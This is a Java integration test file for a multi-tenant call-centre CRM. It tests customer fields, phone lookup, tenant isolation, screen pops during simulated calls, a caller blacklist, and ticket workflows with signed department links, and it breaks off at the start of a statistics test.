package io.seatline.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import static org.awaitility.Awaitility.await;
import static org.junit.Assert.assertFalse;

import java.time.Duration;
import java.util.List;
import javax.inject.Inject;
import org.junit.Before;
import org.osgi.framework.BundleContext;
import org.osgi.framework.ServiceRegistration;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

/**
 * CRM against the assembled distribution: custom fields, customers, lookup and isolation; screen pops of real SIPp calls
 * (following a transfer), the customer's history, call scripts, and the inbound blacklist.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class CrmIT extends TelephonyTestSupport {
    private static final Duration CALL_WAIT = Duration.ofSeconds(60);
    private static final String CATEGORIES = "[{\"name\":\"complaint\",\"label\":\"投诉\",\"slaHours\":24,\"fields\":[{\"name\":\"order_no\","
        + "\"label\":\"订单号\",\"type\":\"TEXT\",\"required\":true}],\"revisitHours\":24},"
        + "{\"name\":\"repair\",\"label\":\"报修\",\"slaHours\":4,\"businessHours\":true},"
        + "{\"name\":\"consultation\",\"label\":\"咨询\",\"slaHours\":2}]";

    @Inject
    private BundleContext bundleContext;
    @Inject
    private org.apache.karaf.shell.api.console.SessionFactory sessions;

    /** Customers call in through a trunk from 127.0.0.1 (one per Karaf). */
    @Before
    public void trunk() {
        localTrunk("crm-carrier");
    }
    private static final String FIELDS = "[{\"name\":\"policy_no\",\"label\":\"保单号\",\"type\":\"TEXT\",\"required\":false},"
        + "{\"name\":\"premium\",\"label\":\"保费\",\"type\":\"NUMBER\",\"required\":false},"
        + "{\"name\":\"level\",\"label\":\"客户等级\",\"type\":\"CHOICE\",\"required\":false,\"choices\":[\"金卡\",\"银卡\"]}]";

    @Test
    public void customFieldsAndCustomersAreTenantIsolated() {
        String a = createTenant("crma", 5, 0);
        String b = createTenant("crmb", 5, 0);
        assertEquals(200, op("PUT", "/tenants/" + a + "/customer-fields", FIELDS).status);
        Answer c = op("POST", "/tenants/" + a + "/customers", "{\"name\":\"张三\",\"phones\":[\"138 0013 8000\",\"+86 21 6888 1234\"],"
            + "\"email\":\"Zhang@Example.com\",\"tags\":[\"VIP\"],\"fields\":{\"policy_no\":\"P-778\",\"premium\":\"1200.50\",\"level\":\"金卡\"}}");
        assertEquals(c.toString(), 201, c.status);
        String id = c.json.get("id").asText();
        assertEquals("+8613800138000", c.json.get("phones").get(0).asText());
        assertEquals("zhang@example.com", c.json.get("email").asText());
        // B sees neither A's definitions nor A's customers, and may use the same field names its own way
        assertEquals(0, op("GET", "/tenants/" + b + "/customer-fields", null).json.size());
        assertEquals(404, op("GET", "/tenants/" + b + "/customers/" + id, null).status);
        assertEquals(0, op("GET", "/tenants/" + b + "/customers/lookup?phone=13800138000", null).json.size());
        assertEquals(0, op("GET", "/tenants/" + b + "/customers?q=" + enc("张"), null).json.get("total").asInt());
        Answer unknown = op("POST", "/tenants/" + b + "/customers", "{\"name\":\"李四\",\"fields\":{\"policy_no\":\"X\"}}");
        assertEquals(unknown.toString(), 400, unknown.status);
        assertEquals("fields.policy_no", unknown.json.get("field").asText());
        assertEquals(200, op("PUT", "/tenants/" + b + "/customer-fields", "[{\"name\":\"policy_no\",\"label\":\"Policy\",\"type\":\"NUMBER\","
            + "\"required\":false}]").status);
        assertEquals("TEXT", op("GET", "/tenants/" + a + "/customer-fields", null).json.get(0).get("type").asText());
        String bAdmin = "boss@" + b;
        createUser(b, "boss", "[\"tenant-admin\"]");
        assertEquals(403, get(bAdmin, PASSWORD, "/tenants/" + a + "/customers").status);
        assertEquals(403, put(bAdmin, PASSWORD, "/tenants/" + a + "/customer-fields", "[]").status);
        assertEquals(404, get(bAdmin, PASSWORD, "/tenants/" + b + "/customers/" + id).status);
    }

    @Test
    public void lookupBySearchAndPhoneInAnyFormat() {
        String t = createTenant("crml", 5, 0);
        op("PUT", "/tenants/" + t + "/customer-fields", FIELDS);
        String id = op("POST", "/tenants/" + t + "/customers", "{\"name\":\"王五\",\"phones\":[\"13900139000\"],\"tags\":[\"续保\"],"
            + "\"fields\":{\"level\":\"金卡\",\"premium\":99}}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/customers", "{\"name\":\"赵六\",\"phones\":[\"13900139001\"],\"fields\":{\"level\":\"银卡\"}}");
        for (String phone : new String[] {"13900139000", "+86 139-0013-9000", "0086 13900139000"}) {
            JsonNode hit = op("GET", "/tenants/" + t + "/customers/lookup?phone=" + enc(phone), null).json;
            assertEquals(phone, 1, hit.size());
            assertEquals(id, hit.get(0).get("id").asText());
        }
        assertEquals(0, op("GET", "/tenants/" + t + "/customers/lookup?phone=13900139999", null).json.size());
        assertEquals(400, op("GET", "/tenants/" + t + "/customers/lookup?phone=call-me", null).status);
        JsonNode gold = op("GET", "/tenants/" + t + "/customers?field.level=" + enc("金卡"), null).json;
        assertEquals(1, gold.get("total").asInt());
        assertEquals("王五", gold.get("items").get(0).get("name").asText());
        assertEquals(1, op("GET", "/tenants/" + t + "/customers?field.premium=99", null).json.get("total").asInt());
        assertEquals(1, op("GET", "/tenants/" + t + "/customers?tag=" + enc("续保"), null).json.get("total").asInt());
        assertEquals(2, op("GET", "/tenants/" + t + "/customers", null).json.get("total").asInt());
        assertEquals(1, op("GET", "/tenants/" + t + "/customers?q=" + enc("赵"), null).json.get("total").asInt());
    }

    @Test
    public void badValuesAndDefinitionChangesThatWouldLoseDataAreRefused() {
        String t = createTenant("crmx", 5, 0);
        op("PUT", "/tenants/" + t + "/customer-fields", FIELDS);
        expect(op("POST", "/tenants/" + t + "/customers", "{\"name\":\"甲\",\"fields\":{\"premium\":\"很多\"}}"), 400, "fields.premium");
        expect(op("POST", "/tenants/" + t + "/customers", "{\"name\":\"甲\",\"fields\":{\"level\":\"铜卡\"}}"), 400, "fields.level");
        expect(op("POST", "/tenants/" + t + "/customers", "{\"name\":\"甲\",\"phones\":[\"12345\"]}"), 400, "phones[0]");
        expect(op("POST", "/tenants/" + t + "/customers", "{\"name\":\"\"}"), 400, "name");
        expect(op("PUT", "/tenants/" + t + "/customer-fields", "[{\"name\":\"email\",\"label\":\"E\",\"type\":\"TEXT\"}]"), 400, "[0].name");
        assertEquals(0, op("GET", "/tenants/" + t + "/customers", null).json.get("total").asInt());
        assertEquals(201, op("POST", "/tenants/" + t + "/customers", "{\"name\":\"乙\",\"fields\":{\"level\":\"银卡\"}}").status);
        // removing a field that holds values, dropping a choice in use, requiring a field some customers lack: 409
        expect(op("PUT", "/tenants/" + t + "/customer-fields", "[]"), 409, "fields.level");
        expect(op("PUT", "/tenants/" + t + "/customer-fields", FIELDS.replace(",\"银卡\"", "")), 409, "fields.level.choices");
        expect(op("PUT", "/tenants/" + t + "/customer-fields", FIELDS.replace("\"保单号\",\"type\":\"TEXT\",\"required\":false",
            "\"保单号\",\"type\":\"TEXT\",\"required\":true")), 409, "fields.policy_no.required");
        assertEquals(3, op("GET", "/tenants/" + t + "/customer-fields", null).json.size());
        // a field without values may change freely
        assertEquals(200, op("PUT", "/tenants/" + t + "/customer-fields", FIELDS.replace("\"type\":\"NUMBER\"", "\"type\":\"TEXT\"")).status);
    }

    // ================================================================= screen pop, history, scripts

    @Test
    public void screenPopReachesTheAgentWhoGetsTheCallAndFollowsATransfer() {
        String t = createTenant("pop", 5, 0);
        String did = queueWithDid(t, "service", "{\"wrapUpSeconds\":0}");
        assertEquals(200, op("PUT", "/tenants/" + t + "/customer-fields", FIELDS.substring(0, FIELDS.length() - 1)
            + ",{\"name\":\"title\",\"label\":\"称呼\",\"type\":\"TEXT\",\"required\":false}]").status);
        String id = op("POST", "/tenants/" + t + "/customers", "{\"name\":\"张三\",\"phones\":[\"13800138000\"],"
            + "\"fields\":{\"level\":\"金卡\",\"title\":\"先生\"}}").json.get("id").asText();
        Answer note = op("POST", "/tenants/" + t + "/customers/" + id + "/notes", "{\"text\":\"上次投诉快递延误，已补偿\"}");
        assertEquals(note.toString(), 201, note.status);
        // a script with a variable that does not exist is refused, naming the step
        expect(op("PUT", "/tenants/" + t + "/scripts/greeting", "{\"queue\":\"service\",\"steps\":[{\"id\":\"hi\","
            + "\"text\":\"您好 ${customer.fields.nope}\"}]}"), 400, "steps[0].text");
        expect(op("PUT", "/tenants/" + t + "/scripts/greeting", "{\"queue\":\"service\",\"steps\":[{\"id\":\"hi\",\"text\":\"您好\","
            + "\"options\":[{\"label\":\"是\",\"next\":\"gone\"}]}]}"), 400, "steps[0].options[0].next");
        Answer script = op("PUT", "/tenants/" + t + "/scripts/greeting", "{\"title\":\"${tenant.name} 服务\",\"queue\":\"service\",\"steps\":["
            + "{\"id\":\"hi\",\"text\":\"${customer.name}${customer.title}您好，我是${agent.name}，您的等级是${customer.fields.level}。\","
            + "\"options\":[{\"label\":\"咨询\",\"next\":\"ask\"},{\"label\":\"投诉\",\"next\":\"complain\"}]},"
            + "{\"id\":\"ask\",\"text\":\"请问有什么可以帮您？\"},{\"id\":\"complain\",\"text\":\"非常抱歉给您带来不便。\"}]}");
        assertEquals(script.toString(), 200, script.status);

        Agent first = agent(t, "first", "{}", "agent.xml", 100);
        Agent second = agent(t, "second", "{}", "agent.xml", 100);
        ready(first);
        try (EventStream events = openStream("/tenants/" + t + "/me/events", first.login());
             EventStream other = openStream("/tenants/" + t + "/me/events", second.login())) {
            await().atMost(Duration.ofSeconds(10)).until(() -> events.lines().contains("event: hello"));
            Sipp caller = customer("pop-call", "customer_ani_transfer.xml", did, 1500, "-m", "1", "-key", "ani", "8613800138000");
            String callId = awaitTalking(t, first);
            // pushed on the first agent's channel, and only there
            await().atMost(Duration.ofSeconds(10)).until(() -> events.lines().contains("event: screen-pop"));
            assertTrue(events.lines().stream().anyMatch(l -> l.startsWith("data:") && l.contains(callId) && l.contains("张三")));
            JsonNode pop = get(first.login(), PASSWORD, "/tenants/" + t + "/me/screen-pops").json.get(0);
            assertEquals(callId, pop.get("callId").asText());
            assertEquals("OFFER", pop.get("reason").asText());
            assertEquals(id, pop.get("customers").get(0).get("id").asText());
            assertEquals("上次投诉快递延误，已补偿", pop.get("history").get(0).get("summary").asText());
            assertTrue(pop.get("newCustomer").isNull());
            assertEquals("张三先生您好，我是用户 first，您的等级是金卡。", pop.get("script").get("steps").get(0).get("text").asText());
            assertEquals(t + " 公司 服务", pop.get("script").get("title").asText());
            assertFalse(other.lines().contains("event: screen-pop"));
            assertEquals(0, get(second.login(), PASSWORD, "/tenants/" + t + "/me/screen-pops").json.size());

            Answer transfer = op("POST", "/tenants/" + t + "/calls/" + callId + "/transfer", "{\"agentUserId\":\"" + second.userId() + "\"}");
            assertEquals(transfer.toString(), 200, transfer.status);
            await().atMost(Duration.ofSeconds(10)).until(() -> get(second.login(), PASSWORD, "/tenants/" + t + "/me/screen-pops").json.size() == 1);
            JsonNode moved = get(second.login(), PASSWORD, "/tenants/" + t + "/me/screen-pops").json.get(0);
            assertEquals(callId, moved.get("callId").asText());
            assertEquals("TRANSFER", moved.get("reason").asText());
            assertEquals(first.userId(), moved.get("fromUserId").asText());
            assertEquals(id, moved.get("customers").get(0).get("id").asText());
            assertTrue(moved.get("script").get("steps").get(0).get("text").asText().contains("我是用户 second"));
            await().atMost(Duration.ofSeconds(10)).until(() -> other.lines().contains("event: screen-pop"));
            caller.assertSucceeded(CALL_WAIT);
        }
        // the call is in the customer's history with what its CDR says
        awaitCdrs(t, 1);
        await().atMost(Duration.ofSeconds(15)).until(() -> {
            JsonNode h = op("GET", "/tenants/" + t + "/customers/" + id + "/history", null).json;
            return h.size() == 2 && "CALL".equals(h.get(0).get("kind").asText()) && h.get(0).get("data").has("talkMs");
        });
        JsonNode call = op("GET", "/tenants/" + t + "/customers/" + id + "/history", null).json.get(0);
        assertEquals("ANSWERED", call.get("data").get("disposition").asText());
        assertEquals(1, call.get("data").get("transfers").asInt());
        assertEquals("NOTE", op("GET", "/tenants/" + t + "/customers/" + id + "/history", null).json.get(1).get("kind").asText());
        // a note names one of the tenant's own calls: this one is accepted; a made-up call or another tenant's is refused
        String callRef = call.get("refId").asText();
        expect(op("POST", "/tenants/" + t + "/customers/" + id + "/notes", "{\"text\":\"x\",\"callId\":\"no-such-call\"}"), 400, "callId");
        String elsewhere = createTenant("popx", 0, 0);
        String theirs = op("POST", "/tenants/" + elsewhere + "/customers", "{\"name\":\"李四\"}").json.get("id").asText();
        expect(op("POST", "/tenants/" + elsewhere + "/customers/" + theirs + "/notes", "{\"text\":\"x\",\"callId\":\"" + callRef + "\"}"), 400,
            "callId");
        assertEquals(0, op("GET", "/tenants/" + elsewhere + "/customers/" + theirs + "/history", null).json.size());
        Answer own = op("POST", "/tenants/" + t + "/customers/" + id + "/notes", "{\"text\":\"回访约在周五\",\"callId\":\"" + callRef + "\"}");
        assertEquals(own.toString(), 201, own.status);

        // an unknown caller gets a new-customer form with the number
        Answer away = op("PUT", "/tenants/" + t + "/agents/" + first.userId() + "/state", "{\"state\":\"NOT_READY\",\"reason\":\"break\"}");
        assertEquals(away.toString(), 200, away.status);
        ready(second);
        Sipp stranger = customer("pop-new", "customer_ani.xml", did, 500, "-m", "1", "-key", "ani", "13912345678");
        stranger.assertSucceeded(CALL_WAIT);
        JsonNode fresh = get(second.login(), PASSWORD, "/tenants/" + t + "/me/screen-pops").json.get(0);
        assertEquals(0, fresh.get("customers").size());
        assertEquals("+8613912345678", fresh.get("newCustomer").get("phones").get(0).asText());
        // the operator has no push channel of its own; another tenant's agent none here
        assertEquals(400, op("GET", "/tenants/" + t + "/me/screen-pops", null).status);
        String b = createTenant("popb", 5, 0);
        createUser(b, "spy", "[\"agent\"]");
        assertEquals(403, get("spy@" + b, PASSWORD, "/tenants/" + t + "/me/screen-pops").status);
        assertEquals(403, get(first.login(), PASSWORD, "/tenants/" + t + "/screen-pops?user=" + second.userId()).status);
    }

    // ================================================================= blacklist

    @Test
    public void blacklistedCallerIsDeclinedAtTheEntryPointOfItsTenantOnly() {
        String a = createTenant("blk", 5, 0);
        String b = createTenant("blkb", 5, 0);
        String didA = queueWithDid(a, "service", "{\"wrapUpSeconds\":0}");
        String didB = queueWithDid(b, "service", "{\"wrapUpSeconds\":0}");
        Agent agentA = agent(a, "ann", "{}", "agent.xml", 100);
        Agent agentB = agent(b, "bob", "{}", "agent.xml", 100);
        ready(agentA);
        ready(agentB);
        Answer put = op("PUT", "/tenants/" + a + "/blacklist/" + enc("138-0000-0001"), "{\"action\":\"REJECT\",\"note\":\"骚扰电话\"}");
        assertEquals(put.toString(), 200, put.status);
        assertEquals("+8613800000001", put.json.get("phone").asText());
        expect(op("PUT", "/tenants/" + a + "/blacklist/12", "{}"), 400, "phone");
        expect(op("PUT", "/tenants/" + a + "/blacklist/13800000002", "{\"action\":\"SHOUT\"}"), 400, "action");
        expect(op("PUT", "/tenants/" + a + "/blacklist/13800000002", "{\"action\":\"MESSAGE\",\"prompt\":\"nope\"}"), 400, "prompt");
        createUser(a, "agentx", "[\"agent\"]");
        assertEquals(403, put("agentx@" + a, PASSWORD, "/tenants/" + a + "/blacklist/13800000003", "{}").status);
        assertEquals(403, get("agentx@" + a, PASSWORD, "/blacklist").status);

        // the blocked number calling A: declined with 603, no agent rings, a REJECTED CDR
        customer("blocked", "customer_blocked.xml", didA, 0, "-m", "1", "-key", "ani", "8613800000001").assertSucceeded(CALL_WAIT);
        JsonNode cdr = awaitCdrs(a, 1).get(0);
        assertEquals("REJECTED", cdr.get("disposition").asText());
        assertEquals("blacklisted", cdr.get("hangupCause").asText());
        assertEquals(0, agentA.phone().successful());
        // the same number calling B (whose list is empty) is answered there
        customer("not-blocked", "customer_ani.xml", didB, 300, "-m", "1", "-key", "ani", "8613800000001").assertSucceeded(CALL_WAIT);
        assertEquals("ANSWERED", awaitCdrs(b, 1).get(0).get("disposition").asText());
        assertEquals(0, op("GET", "/tenants/" + b + "/blacklist", null).json.size());

        // the operator's list applies to every tenant, until removed
        assertEquals(200, op("PUT", "/blacklist/" + enc("+86 139 0000 0009"), "{\"note\":\"fraud\"}").status);
        assertEquals("OPERATOR", op("GET", "/blacklist", null).json.get(0).get("scope").asText());
        customer("blocked-all", "customer_blocked.xml", didB, 0, "-m", "1", "-key", "ani", "8613900000009").assertSucceeded(CALL_WAIT);
        assertEquals("blacklisted", awaitCdrs(b, 2).get(0).get("hangupCause").asText());
        assertEquals(204, op("DELETE", "/blacklist/8613900000009", null).status);
        assertEquals(404, op("DELETE", "/blacklist/8613900000009", null).status);
        assertEquals(204, op("DELETE", "/tenants/" + a + "/blacklist/13800000001", null).status);
        customer("unblocked", "customer_ani.xml", didA, 300, "-m", "1", "-key", "ani", "8613800000001").assertSucceeded(CALL_WAIT);
        assertEquals("ANSWERED", awaitCdrs(a, 2).get(0).get("disposition").asText());
        // every change is audited
        JsonNode audit = op("GET", "/tenants/" + a + "/audit?limit=100", null).json;
        assertTrue(audit.toString(), audit.toString().contains("blacklist.add") && audit.toString().contains("blacklist.remove"));
    }

    // ================================================================= tickets

    @Test
    public void ticketLifecycleDispatchRevisitAndAuditTrail() {
        String t = createTenant("tkt", 5, 0);
        createUser(t, "admin", "[\"tenant-admin\"]");
        String agent = createUser(t, "li", "[\"agent\"]");
        expect(put("admin@" + t, PASSWORD, "/tenants/" + t + "/ticket-categories", "[{\"name\":\"x\",\"label\":\"X\",\"slaHours\":0}]"),
            400, "[0].slaHours");
        expect(put("admin@" + t, PASSWORD, "/tenants/" + t + "/ticket-categories", "[{\"name\":\"x\",\"label\":\"X\",\"slaHours\":1,"
            + "\"fields\":[{\"name\":\"a\",\"label\":\"A\",\"type\":\"COLOUR\"}]}]"), 400, "[0].fields[0].type");
        assertEquals(403, put("li@" + t, PASSWORD, "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        Answer cats = put("admin@" + t, PASSWORD, "/tenants/" + t + "/ticket-categories", CATEGORIES);
        assertEquals(cats.toString(), 200, cats.status);
        String customer = op("POST", "/tenants/" + t + "/customers", "{\"name\":\"王芳\",\"phones\":[\"13700137000\"]}").json.get("id").asText();

        String li = "li@" + t;
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets", "{\"category\":\"complaint\",\"title\":\"快递延误\",\"customerId\":\""
            + customer + "\"}"), 400, "fields.order_no");
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets", "{\"category\":\"nope\",\"title\":\"x\"}"), 400, "category");
        Answer created = post(li, PASSWORD, "/tenants/" + t + "/tickets", "{\"category\":\"complaint\",\"title\":\"快递延误三天\","
            + "\"description\":\"客户要求赔偿\",\"priority\":\"high\",\"customerId\":\"" + customer + "\",\"fields\":{\"order_no\":\"SF-1001\"}}");
        assertEquals(created.toString(), 201, created.status);
        JsonNode tk = created.json;
        String id = tk.get("id").asText();
        assertTrue(tk.get("number").asText(), tk.get("number").asText().matches("GD-\\d{8}-0001"));
        assertEquals("NEW", tk.get("status").asText());
        assertEquals("HIGH", tk.get("priority").asText());
        assertEquals(24 * 3600, java.time.Duration.between(java.time.Instant.parse(tk.get("createdAt").asText()),
            java.time.Instant.parse(tk.get("dueAt").asText())).getSeconds());
        assertTrue(post(li, PASSWORD, "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"问价格\"}").json.get("number")
            .asText().endsWith("-0002"));

        // transitions that are not allowed, and a resolution without its text
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"CLOSED\"}"), 409, "status");
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"REOPEN\"}"), 409, "status");
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"RESOLVED\"}"), 400, "note");
        assertEquals(403, post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/assign", "{\"userId\":\"" + agent + "\"}").status);
        expect(op("POST", "/tenants/" + t + "/tickets/" + id + "/assign", "{\"userId\":\"nobody\"}"), 400, "userId");
        Answer assigned = op("POST", "/tenants/" + t + "/tickets/" + id + "/assign", "{\"userId\":\"" + agent + "\"}");
        assertEquals("ASSIGNED", assigned.json.get("status").asText());
        JsonNode note = get(li, PASSWORD, "/tenants/" + t + "/me/notifications?unread=true").json;
        assertEquals("TICKET_ASSIGNED", note.get(0).get("kind").asText());
        assertEquals(204, post(li, PASSWORD, "/tenants/" + t + "/me/notifications/" + note.get(0).get("id").asText() + "/read", null).status);
        assertEquals(0, get(li, PASSWORD, "/tenants/" + t + "/me/notifications?unread=true").json.size());
        assertEquals("IN_PROGRESS", post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"IN_PROGRESS\"}")
            .json.get("status").asText());
        assertEquals(201, post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/comments", "{\"text\":\"已联系快递公司\"}").status);
        assertEquals(201, post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/comments", "{\"text\":\"内部：可赔20元\",\"internal\":true}").status);

        // attachments: stored and read back byte for byte; too large is 413 and nothing is kept
        byte[] photo = "照片 bytes \u0000\u0001".getBytes(StandardCharsets.UTF_8);
        Answer att = upload(li, "/tenants/" + t + "/tickets/" + id + "/attachments?name=" + enc("破损照片.jpg"), "image/jpeg", photo);
        assertEquals(att.toString(), 201, att.status);
        byte[] back = download(li, "/tenants/" + t + "/tickets/" + id + "/attachments/" + att.json.get("id").asText());
        assertTrue(java.util.Arrays.equals(photo, back));
        Answer big = upload(li, "/tenants/" + t + "/tickets/" + id + "/attachments?name=big.bin", "application/octet-stream", new byte[10 * 1024 * 1024 + 1]);
        assertEquals(big.toString(), 413, big.status);
        assertEquals("attachment_too_large", big.json.get("code").asText());
        assertEquals(1, get(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/attachments").json.size());

        // dispatch to an outside department: its signed link works without a login, and only for this ticket; a malformed
        // body is a 400 naming the field (it was a 500 while the body was a free-form map), and nothing is dispatched
        expect(op("POST", "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":{\"name\":\"物流部\"}}"), 400, "department");
        expect(op("POST", "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":\"物流部\",\"emial\":\"wl@example.com\"}"), 400, "emial");
        expect(op("POST", "/tenants/" + t + "/tickets/" + id + "/revisit", "{\"result\":[\"ok\"]}"), 400, "result");
        Answer d = op("POST", "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":\"物流部\",\"email\":\"wl@example.com\","
            + "\"validHours\":48}");
        assertEquals(d.toString(), 200, d.status);
        String token = d.json.get("token").asText();
        Answer pub = send(null, null, "GET", "/public/tickets/" + token, null);
        assertEquals(pub.toString(), 200, pub.status);
        // only that exact link: extra "." segments or padding make another, unknown link
        for (String other : List.of(token + ".", token + "..", token + ".x", token.replace(".", "=.") )) {
            Answer o = send(null, null, "GET", "/public/tickets/" + other, null);
            assertEquals(other + ": " + o, 404, o.status);
            assertEquals("invalid_link", o.json.get("code").asText());
        }
        assertEquals(id, pub.json.get("id").asText());
        JsonNode seen = send(null, null, "GET", "/public/tickets/" + token + "/comments", null).json;
        assertEquals("the department does not see internal comments", 1, seen.size());
        // the ticket's category as the department reads it: labels, not whom it escalates to
        JsonNode cat = send(null, null, "GET", "/public/tickets/" + token + "/category", null).json;
        assertEquals(cat.toString(), "投诉", cat.get("label").asText());
        assertEquals("订单号", cat.get("fields").get(0).get("label").asText());
        assertEquals(0, cat.get("escalateTo").size());
        assertTrue(cat.toString(), cat.get("slaHours").isNull() && cat.get("revisitHours").isNull());
        assertEquals(404, send(null, null, "GET", "/public/tickets/garbage/category", null).status);
        assertEquals(404, send(null, null, "GET", "/public/tickets/" + token.substring(0, token.length() - 2) + "xx", null).status);
        assertEquals(404, send(null, null, "GET", "/public/tickets/garbage", null).status);
        assertEquals(201, send(null, null, "POST", "/public/tickets/" + token + "/comments", "{\"text\":\"已安排重新派送\"}").status);
        Answer resolved = send(null, null, "POST", "/public/tickets/" + token + "/resolve", "{\"resolution\":\"已补发并赔偿20元\"}");
        assertEquals(resolved.toString(), 200, resolved.status);
        assertEquals("RESOLVED", resolved.json.get("status").asText());
        assertEquals("PENDING", resolved.json.get("revisit").get("status").asText());

        // the revisit (回访) is recorded once; then the ticket closes and can be reopened
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/revisit", "{\"result\":\"满意\",\"satisfaction\":9}"), 400, "satisfaction");
        assertEquals("DONE", post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/revisit", "{\"result\":\"客户满意\",\"satisfaction\":5}")
            .json.get("revisit").get("status").asText());
        expect(post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/revisit", "{\"result\":\"again\"}"), 409, "revisit");
        assertEquals("CLOSED", post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"CLOSED\"}").json.get("status").asText());
        assertEquals("IN_PROGRESS", post(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/transition", "{\"status\":\"REOPEN\",\"note\":\"客户再次来电\"}")
            .json.get("status").asText());

        // the trail has every change in order, with who did it
        List<String> actions = new java.util.ArrayList<>();
        String resolvedBy = null;
        for (JsonNode c : get(li, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/changes").json) {
            actions.add(c.get("action").asText());
            if ("RESOLVED".equals(c.get("to").asText())) {
                resolvedBy = c.get("by").asText();
            }
        }
        assertEquals(List.of("CREATED", "ASSIGNED", "STATUS", "COMMENTED", "COMMENTED", "ATTACHED", "DISPATCHED", "COMMENTED", "STATUS",
            "REVISITED", "STATUS", "REOPENED"), actions);
        assertEquals("department:物流部", resolvedBy);
        String audit = op("GET", "/tenants/" + t + "/audit?limit=100", null).json.toString();
        for (String a : List.of("ticket.create", "ticket.assign", "ticket.dispatch", "ticket.resolved", "ticket.revisit", "ticket.closed", "ticket.reopen")) {
            assertTrue(a + " in " + audit, audit.contains("\"" + a + "\""));
        }
        // the customer's history has the ticket, its resolution and the revisit
        long ticketEntries = 0;
        for (JsonNode h : op("GET", "/tenants/" + t + "/customers/" + customer + "/history", null).json) {
            ticketEntries += "TICKET".equals(h.get("kind").asText()) ? 1 : 0;
        }
        assertEquals(3, ticketEntries);
        // another tenant sees none of it
        String b = createTenant("tktb", 5, 0);
        assertEquals(0, op("GET", "/tenants/" + b + "/ticket-categories", null).json.size());
        assertEquals(404, op("GET", "/tenants/" + b + "/tickets/" + id, null).status);
        createUser(b, "other", "[\"supervisor\"]");
        assertEquals(403, get("other@" + b, PASSWORD, "/tenants/" + t + "/tickets").status);
        assertEquals(0, op("GET", "/tenants/" + b + "/tickets", null).json.get("total").asInt());
    }

    @Test
    public void overdueReminderFiresWithAnInjectedClock() {
        String t = createTenant("late", 5, 0);
        String agent = createUser(t, "wu", "[\"agent\"]");
        String sup = createUser(t, "boss", "[\"supervisor\"]");
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        String id = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"发票问题\"}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/tickets/" + id + "/assign", "{\"userId\":\"" + agent + "\"}");
        String done = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"已解决的\"}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/tickets/" + done + "/transition", "{\"status\":\"RESOLVED\",\"note\":\"当场解决\"}");
        assertEquals(0, op("GET", "/tenants/" + t + "/tickets/overdue", null).json.size());
        // three hours later (the SLA is two): the reminder fires at once on the injected clock
        ServiceRegistration<java.time.Clock> clock = bundleContext.registerService(java.time.Clock.class,
            java.time.Clock.fixed(java.time.Instant.now().plus(java.time.Duration.ofHours(3)), java.time.ZoneOffset.UTC),
            new java.util.Hashtable<>(java.util.Map.of("seatline.clock", "true")));
        try {
            await().atMost(Duration.ofSeconds(20)).until(() -> get("wu@" + t, PASSWORD, "/tenants/" + t + "/me/notifications").json.toString()
                .contains("TICKET_OVERDUE"));
            JsonNode overdue = op("GET", "/tenants/" + t + "/tickets/overdue", null).json;
            assertEquals(1, overdue.size());
            assertEquals(id, overdue.get(0).get("id").asText());
            assertTrue(overdue.get(0).get("overdue").asBoolean());
            assertFalse(overdue.get(0).get("remindedAt").isNull());
            assertEquals(1, op("GET", "/tenants/" + t + "/tickets?overdue=true", null).json.get("total").asInt());
            JsonNode bossNotes = get("boss@" + t, PASSWORD, "/tenants/" + t + "/me/notifications").json;
            assertEquals(sup, bossNotes.get(0).get("userId").asText());
            assertTrue(bossNotes.get(0).get("text").asText().startsWith("催办"));
            assertTrue(op("GET", "/tenants/" + t + "/tickets/" + id + "/changes", null).json.toString().contains("\"OVERDUE\""));
            // once only, and never for the resolved ticket
            assertEquals(1, get("wu@" + t, PASSWORD, "/tenants/" + t + "/me/notifications").json.toString().split("TICKET_OVERDUE", -1).length - 1);
            assertFalse(op("GET", "/tenants/" + t + "/tickets/" + done + "/changes", null).json.toString().contains("OVERDUE"));
        } finally {
            clock.unregister();
        }
    }

    /**
     * Ticket statistics (工单统计): five tickets in three categories, some assigned, one resolved at once and one left
     * open past its two-hour SLA (seen on a clock three hours on); by category, status and agent the counts, the breaches
     * and the resolution time are those of the tickets made here. Bad groupings and ranges are refused; agents may not
     * read them; another company sees none.
     */
    @Test
    public void ticketStatisticsByCategoryStatusAndAgentCountBreaches() {
        String t = createTenant("tst", 5, 0);
        String wu = createUser(t, "wu", "[\"agent\"]");
